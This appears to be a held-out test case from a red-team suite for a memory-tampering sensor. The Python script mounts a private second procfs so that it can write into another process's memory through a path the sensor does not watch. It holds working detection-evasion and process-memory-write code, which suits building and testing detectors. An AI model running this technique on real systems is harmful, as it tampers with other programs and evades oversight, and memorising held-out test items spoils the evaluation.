"""Round 4: mount a second procfs in a private mount namespace and write PID/mem through it.

The mem file is reached at <scratch>/p/PID/mem: no path under /proc, a
procfs instance the sensor never looked at.  The mount dies with the process.
"""

from __future__ import annotations

import ctypes
import os
import shutil
from pathlib import Path
from typing import Any

from redteam import rt

GAP = 2
MODE = "external"
TARGET = "host"
HELD_OUT = True
ROUND = 4
EXPECT = ("L5",)
CLONE_NEWNS = 0x00020000
MS_REC, MS_PRIVATE = 0x4000, 1 << 18


def run(args: dict[str, Any]) -> None:
    pid = int(args["pid"])
    addr = rt.target_addr(args, pid)
    lc = rt.libc()
    if lc.unshare(CLONE_NEWNS) != 0:
        raise OSError(ctypes.get_errno(), "unshare(CLONE_NEWNS)")
    if lc.mount(None, b"/", None, MS_REC | MS_PRIVATE, None) != 0:
        raise OSError(ctypes.get_errno(), "mount --make-rprivate /")
    mnt = Path(args["scratch"]) / "p"
    shutil.rmtree(mnt.parent, ignore_errors=True)
    mnt.mkdir(parents=True)
    if lc.mount(b"proc", str(mnt).encode(), b"proc", 0, None) != 0:
        raise OSError(ctypes.get_errno(), f"mount -t proc {mnt}")
    try:
        t = rt.now()
        fd = os.open(f"{mnt}/{pid}/mem", os.O_RDWR)
        n = rt.rewrite_mem(fd, addr)
    finally:
        lc.umount2(str(mnt).encode(), 2)  # MNT_DETACH
    rt.report(t, n == 32, f"second procfs at {mnt}: {pid}/mem wrote {n} bytes at {addr:#x}")


if __name__ == "__main__":
    rt.main(run, globals())
